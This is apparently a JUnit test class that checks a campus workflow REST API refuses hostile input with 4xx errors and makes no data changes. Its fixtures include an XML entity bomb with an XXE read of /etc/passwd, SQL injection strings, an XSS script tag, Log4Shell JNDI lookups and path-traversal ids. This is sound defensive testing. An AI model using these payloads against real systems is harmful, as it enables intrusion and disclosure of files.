package org.campus.rest.internal.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * Malformed and hostile input to every route that reads a body, a query or an id: each answer is
 * a 4xx problem, never a 5xx, and nothing reaches a service method that changes data.
 */
class HostileInputTest {

    private static final Set<String> CHANGING = Set.of("start", "markSent", "markError", "markSourceDeleted",
            "deleteUser", "deleteCourse", "revise", "migrate", "moveRecord", "bind", "create", "importDcWorkflow",
            "createFromTemplate", "createRecord", "perform", "cancel", "retry", "delete", "submit", "forgetProvider");

    /**
     * The routes that read a JSON body, with a path that names an existing-looking id. Not
     * {@code POST /workflows}: a definition is judged by the service's validator, so a body of the
     * right shape reaches it by design (WorkflowResourceTest and SecurityIT cover that route).
     */
    private static final List<String> BODY_ROUTES = List.of("/share-progress", "/share-progress/1/status",
            "/share-progress/source-deleted", "/api-keys", "/workflows/1/migrations", "/workflow-records/1/workflow",
            "/workflow-records", "/workflow-records/1/actions");

    private static final String XML_BOMB = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
            + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
            + "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><lolz>&lol2;&xxe;</lolz>";

    private static final String WRONG_TYPES = "{\"courseId\":{\"$gt\":\"\"},\"userId\":[1],\"type\":5,\"cmId\":true,"
            + "\"status\":1,\"resourceUrl\":[],\"message\":{},\"name\":12,\"scopes\":\"all\"}";

    private static final String HUGE_NUMBERS = "{\"courseId\":1e400,\"userId\":99999999999999999999999,"
            + "\"type\":\"course\",\"cmId\":1.5,\"status\":\"sent\",\"name\":\"n\",\"scopes\":[1e999]}";

    private static final String INJECTION = "{\"courseId\":\"1; DROP TABLE share_progress\",\"userId\":\"' OR '1'='1\","
            + "\"type\":\"<script>alert(1)</script>\",\"cmId\":\"${jndi:ldap://x/a}\",\"status\":\"sent' --\","
            + "\"name\":\"\",\"scopes\":[\"../../etc\",\"' OR 1=1\"]}";

    static Stream<Arguments> hostileBodies() {
        List<Arguments> cases = new ArrayList<>();
        for (String path : BODY_ROUTES) {
            cases.add(Arguments.of(path, "application/json", ""));
            cases.add(Arguments.of(path, "application/json", "{"));
            cases.add(Arguments.of(path, "application/json", "{\"courseId\":1,}"));
            cases.add(Arguments.of(path, "application/json", "[1,2,3]"));
            cases.add(Arguments.of(path, "application/json", "null"));
            cases.add(Arguments.of(path, "application/json", "\"just a string\""));
            cases.add(Arguments.of(path, "application/json", "{}"));
            cases.add(Arguments.of(path, "application/json", WRONG_TYPES));
            cases.add(Arguments.of(path, "application/json", HUGE_NUMBERS));
            if (!path.equals("/share-progress/source-deleted")) { // LMS ids only: strings are ids (see below)
                cases.add(Arguments.of(path, "application/json", INJECTION));
            }
            cases.add(Arguments.of(path, "application/json", "[".repeat(100_000) + "]".repeat(100_000)));
            cases.add(Arguments.of(path, "application/json", "{\"name\":\"" + "x".repeat(2_000_000) + "\"}"));
            cases.add(Arguments.of(path, "application/xml", XML_BOMB));
            cases.add(Arguments.of(path, "text/xml", XML_BOMB));
            cases.add(Arguments.of(path, "application/json", XML_BOMB));
            cases.add(Arguments.of(path, "text/plain", "{\"courseId\":1,\"userId\":1,\"type\":\"course\"}"));
            cases.add(Arguments.of(path, null, "{\"courseId\":1,\"userId\":1,\"type\":\"course\"}"));
            cases.add(Arguments.of(path, "application/x-www-form-urlencoded", "courseId=1&userId=1&type=course"));
        }
        return cases.stream();
    }

    static Stream<Arguments> hostileQueries() {
        return Stream.of(
                Arguments.of("/share-progress", "limit", "-1"),
                Arguments.of("/workflows", "limit", "0"),
                Arguments.of("/workflows", "limit", "' OR 1=1"),
                Arguments.of("/share-progress", "limit", "0"),
                Arguments.of("/share-progress", "limit", "501"),
                Arguments.of("/share-progress", "limit", "99999999999999999999999"),
                Arguments.of("/share-progress", "limit", "abc"),
                Arguments.of("/share-progress", "cursor", "x".repeat(300)),
                Arguments.of("/share-progress", "userId", "u".repeat(256)),
                Arguments.of("/share-progress", "courseId", " "),
                Arguments.of("/share-progress", "status", "<script>"),
                Arguments.of("/share-progress", "type", "' OR ''='"),
                Arguments.of("/share-progress", "createdFrom", "yesterday"),
                Arguments.of("/share-progress", "createdTo", "2024-13-45T99:99:99Z"),
                Arguments.of("/audit", "limit", "-5"),
                Arguments.of("/audit", "createdFrom", "not-a-time"),
                Arguments.of("/audit", "createdTo", "../../etc/passwd"),
                Arguments.of("/audit", "actorKind", "root"),
                Arguments.of("/audit", "actor", "a".repeat(300)),
                Arguments.of("/audit", "action", "' OR 1=1 --".repeat(30)),
                Arguments.of("/jobs", "state", "runnin'"),
                Arguments.of("/jobs", "type", "t".repeat(65)),
                Arguments.of("/jobs", "owner", "o".repeat(256)),
                Arguments.of("/jobs", "owner", "a\nb"),
                Arguments.of("/jobs", "createdFrom", "today"),
                Arguments.of("/jobs", "limit", "0"),
                Arguments.of("/jobs", "cursor", "x".repeat(300)),
                Arguments.of("/jobs/1/log", "level", "verbose"),
                Arguments.of("/jobs/1/log", "limit", "501"));
    }

    static Stream<Arguments> hostileIds() {
        List<Arguments> cases = new ArrayList<>();
        for (String id : List.of("abc", "-1", "99999999999999999999999", "1' OR '1'='1", "..", "%2e%2e%2fetc",
                "<script>", "1;DROP TABLE share_progress", "\u0000")) {
            cases.add(Arguments.of("GET", "/share-progress/" + id));
            cases.add(Arguments.of("GET", "/share-progress/" + id + "/timeline"));
            cases.add(Arguments.of("POST", "/share-progress/" + id + "/status"));
            cases.add(Arguments.of("GET", "/api-keys/" + id));
            cases.add(Arguments.of("POST", "/api-keys/" + id + "/rotate"));
            cases.add(Arguments.of("DELETE", "/api-keys/" + id));
            cases.add(Arguments.of("GET", "/workflows/" + id));
            cases.add(Arguments.of("GET", "/workflows/" + id + "/export"));
            cases.add(Arguments.of("GET", "/workflows/" + id + "/simulation"));
            cases.add(Arguments.of("POST", "/workflows/templates/" + id));
            cases.add(Arguments.of("GET", "/workflow-records/" + id));
            cases.add(Arguments.of("GET", "/workflow-records/" + id + "/history"));
            cases.add(Arguments.of("GET", "/workflow-records/" + id + "/access"));
            cases.add(Arguments.of("POST", "/workflow-records/" + id + "/actions"));
            cases.add(Arguments.of("GET", "/jobs/" + id));
            cases.add(Arguments.of("GET", "/jobs/" + id + "/log"));
            cases.add(Arguments.of("POST", "/jobs/" + id + "/cancel"));
            cases.add(Arguments.of("POST", "/jobs/" + id + "/retry"));
            cases.add(Arguments.of("DELETE", "/jobs/" + id));
            cases.add(Arguments.of("GET", "/privacy/erasures/" + id));
        }
        cases.add(Arguments.of("GET", "/../../../etc/passwd"));
        cases.add(Arguments.of("GET", "/share-progress/1/../../api-keys"));
        return cases.stream();
    }

    private final TestServlets t = new TestServlets(1_048_576);
    private final ObjectMapper mapper = new ObjectMapper();

    private void assertRefusedAndNothingChanged(FakeHttp.Response r) throws Exception {
        assertTrue(r.status >= 400 && r.status < 500, r.toString().substring(0, Math.min(300, r.toString().length())));
        assertEquals(Json.PROBLEM_CONTENT_TYPE, r.contentType);
        assertEquals(r.status, mapper.readTree(r.body()).get("status").asInt());
        assertTrue(t.serviceCalls.stream().noneMatch(CHANGING::contains), t.serviceCalls.toString());
        assertEquals(0, t.keys.changes, "no API key changed");
        assertTrue(t.audit.entries.isEmpty(), "no change was recorded");
    }

    @ParameterizedTest(name = "{0} {1} #{index}")
    @MethodSource("hostileBodies")
    void hostileBodiesAreRefused(String path, String type, String body) throws Exception {
        FakeHttp.Request request = new FakeHttp.Request("POST", path).basic("admin", "admin-pw");
        request.body(type, body.getBytes(StandardCharsets.UTF_8));

        assertRefusedAndNothingChanged(t.call(request));
    }

    @ParameterizedTest(name = "{0}?{1}=... #{index}")
    @MethodSource("hostileQueries")
    void hostileQueriesAreRefused(String path, String name, String value) throws Exception {
        FakeHttp.Response r = t.call(new FakeHttp.Request("GET", path).bearer("lms-all").param(name, value));

        assertEquals(400, r.status, r.toString());
        assertRefusedAndNothingChanged(r);
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("hostileIds")
    void hostileIdsAreRefused(String method, String path) throws Exception {
        FakeHttp.Request request = new FakeHttp.Request(method, path).basic("admin", "admin-pw");
        if (method.equals("POST")) {
            request.json("{\"status\":\"sent\",\"resourceUrl\":\"https://example.org/r/1\"}");
        }

        assertRefusedAndNothingChanged(t.call(request));
    }

    /**
     * An LMS id may be any string of 1 to 255 characters: hostile-looking ones are ids like any other,
     * handed to the service verbatim as values (which it binds as parameters, never as SQL).
     */
    @org.junit.jupiter.api.Test
    void hostileLookingLmsIdsReachTheServiceAsTheyCame() throws Exception {
        t.answers.put("markSourceDeleted", args -> 0);
        t.answers.put("list", args -> new org.campus.api.Page<>(List.of(), null));

        FakeHttp.Response deleted = t.call(new FakeHttp.Request("POST", "/share-progress/source-deleted")
                .basic("admin", "admin-pw").json("{\"courseId\":\"1; DROP TABLE share_progress\","
                        + "\"cmId\":\"${jndi:ldap://x/a}\"}"));
        FakeHttp.Response listed = t.call(new FakeHttp.Request("GET", "/share-progress").bearer("lms-all")
                .param("userId", "1 OR 1=1").param("courseId", "1e5"));

        assertEquals(200, deleted.status, deleted.toString());
        assertEquals(new org.campus.api.sharing.SourceDeleted(
                org.campus.api.workflow.LmsId.of("1; DROP TABLE share_progress"),
                org.campus.api.workflow.LmsId.of("${jndi:ldap://x/a}")), t.lastArgs.get("markSourceDeleted")[0]);
        assertEquals(200, listed.status, listed.toString());
        org.campus.api.sharing.ShareQuery query = (org.campus.api.sharing.ShareQuery) t.lastArgs.get("list")[0];
        assertEquals("1 OR 1=1", query.userId().value());
        assertEquals("1e5", query.courseId().value());
    }

    @org.junit.jupiter.api.Test
    void aFieldTheRequestDoesNotHaveIsRefusedByName() throws Exception {
        FakeHttp.Response r = t.call(new FakeHttp.Request("POST", "/share-progress/source-deleted")
                .basic("admin", "admin-pw").json("{\"courseId\":5,\"cmid\":7}"));

        assertRefusedAndNothingChanged(r);
        assertTrue(r.body().contains("\"field\":\"cmid\""), r.body());
        assertTrue(!t.lastArgs.containsKey("markSourceDeleted"), r.body());
    }

    @org.junit.jupiter.api.Test
    void invalidUtf8IsRefused() throws Exception {
        FakeHttp.Request request = new FakeHttp.Request("POST", "/api-keys").basic("admin", "admin-pw")
                .body("application/json", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28,
                        '"', '}'});

        assertRefusedAndNothingChanged(t.call(request));
    }

    @org.junit.jupiter.api.Test
    void aDeclaredHugeBodyIsRefusedUnread() throws Exception {
        FakeHttp.Response r = t.call(new FakeHttp.Request("POST", "/api-keys").basic("admin", "admin-pw")
                .json("{\"name\":\"n\",\"scopes\":[\"*\"]}").declaredLength(10L * 1024 * 1024 * 1024));

        assertEquals(413, r.status);
        assertRefusedAndNothingChanged(r);
    }

    @org.junit.jupiter.api.Test
    void hostileCredentialsAreUnauthorized() throws Exception {
        for (String header : List.of("Bearer ' OR 1=1 --", "Basic Li4vLi4vZXRjL3Bhc3N3ZA==", "Bearer " + "k".repeat(10_000),
                "Basic " + "=".repeat(100), "Negotiate abc", "Bearer ${jndi:ldap://x/a}")) {
            FakeHttp.Response r = t.call(new FakeHttp.Request("GET", "/audit").header("Authorization", header));
            assertEquals(401, r.status, header);
            assertRefusedAndNothingChanged(r);
        }
    }
}
